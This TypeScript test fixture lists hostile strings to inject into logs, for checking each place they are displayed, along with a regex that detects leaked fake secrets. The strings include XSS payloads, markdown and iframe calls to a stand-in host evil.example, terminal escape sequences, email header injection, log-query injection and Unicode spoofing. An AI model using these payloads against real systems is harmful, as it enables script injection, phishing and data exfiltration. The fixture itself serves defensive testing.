/** Texts that somebody may bring into a log, against each place where they may be shown; more are in hostile-alerts.ts. */
export const HOSTILE_LOG_TEXTS: readonly string[] = [
  'Boom<!here|x> <!subteam^S0123|all>',
  'Boom<!date^1392734382^{date_num}^https://evil.example|now>',
  'Boom <http://evil.example|Open the runbook>',
  'Boom [Reset](javascript:alert(1)) ![x](https://evil.example/p.png)',
  'Boom<svg/onload=alert(1)>',
  'Boom" autofocus onfocus=alert(1) x="',
  'Boom</script></style></svg></title><iframe src=//evil.example>',
  'Boom<cwdb-action action="call" endpoint="arn:aws:lambda:eu-west-1:1:function:x">{}</cwdb-action>',
  'Boom\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007',
  'Boom\u001b[2J\u001b[1;1HAll is well\u001b[8m',
  'Boom\u009b31mred\u0090dcs\u009c\u0007',
  'Boom\r\nSubject: Re: payroll\r\nBcc: victim@evil.example\r\n\r\nhello',
  'Boom\u0085\u2028\u2029next\u000bpage\u000c',
  'Boom" | fields @ptr | unmask(@message) | filter @message like "',
  'Boom/) or 1=1 | limit 10000 #',
  "Boom~'*29)~source~(~'~arn*3aaws*3alogs'~(",
  'Boom\u202eexe.tnemyap\u202c\u2067x\u2069',
  'p\u200ba\u200cy\u200dp\u2060al\u{e0041}\u{e0042}\u00ad.Boom',
  `Boom AKIAIOSFODNN7EXAMPLE ${'A'.repeat(1_000_000)}`,
  'Boom password=hunter22 postgres://u:geheim99@db.internal/x Bearer abcdefgh12345678abcdefgh',
  '__proto__',
  'Boom"}],"severity":"low","x":[{"\\u003cscript\\u003e',
  `BoomZ${'\u0301'.repeat(500)}`,
  'Boom\ud800x\udc00',
];

export const LEAKS = /AKIAIOSFODNN7EXAMPLE|hunter22|geheim99|abcdefgh12345678|victim@/;
